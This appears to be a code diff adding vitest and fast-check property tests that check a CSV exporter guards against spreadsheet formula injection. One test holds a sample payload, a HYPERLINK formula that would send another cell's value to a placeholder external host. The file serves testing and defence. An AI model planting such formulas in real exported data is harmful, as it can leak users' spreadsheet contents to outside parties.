@@ -1,3 +1,5 @@
+import fc from 'fast-check';
+import { parse } from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { toCsv, type CsvColumn } from '../../src/domain/csv';
 
@@ -25,6 +27,36 @@ describe('toCsv', () => {
 
   it('keeps spreadsheet formulas from running', () => {
     expect(toCsv([{ name: '=HYPERLINK("x")', note: '@SUM(A1)', score: 5 }], columns)).toBe('Name,Note,Score\r\n"\'=HYPERLINK(""x"")","\'@SUM(A1)",5');
+  });
+
+  it('guards a formula followed by a line break, and one behind leading whitespace', () => {
+    const payload = '=HYPERLINK("http://x.example/?"&B2,"Open")\nmore text';
+    expect(toCsv([{ name: payload, note: '  +1+1', score: -5 }], columns)).toBe(
+      'Name,Note,Score\r\n"\'=HYPERLINK(""http://x.example/?""&B2,""Open"")\nmore text","\'  +1+1",-5',
+    );
+  });
+
+  it('guards every text cell that starts, after whitespace, with = + - @ tab or CR, whatever follows, and keeps its text', () => {
+    const trigger = fc.tuple(fc.stringMatching(/^[ \n]{0,3}$/), fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 30 }));
+    fc.assert(
+      fc.property(trigger, ([space, first, rest]) => {
+        const cell = `${space}${first}${rest}`;
+        const [, row] = parse<string[]>(toCsv([{ name: cell, note: null, score: null }], columns), { newline: '\r\n' }).data;
+        expect(row![0]).toBe(`'${cell}`);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('leaves other text cells as they were', () => {
+    const plain = fc.string({ maxLength: 30 }).filter((text) => !/^\s*[=+\-@\t\r]/.test(text));
+    fc.assert(
+      fc.property(plain, (cell) => {
+        const [, row] = parse<string[]>(toCsv([{ name: cell, note: null, score: null }], columns), { newline: '\r\n' }).data;
+        expect(row![0]).toBe(cell);
+      }),
+      { numRuns: 1000 },
+    );
   });
 
   it('writes only the header for no rows', () => {
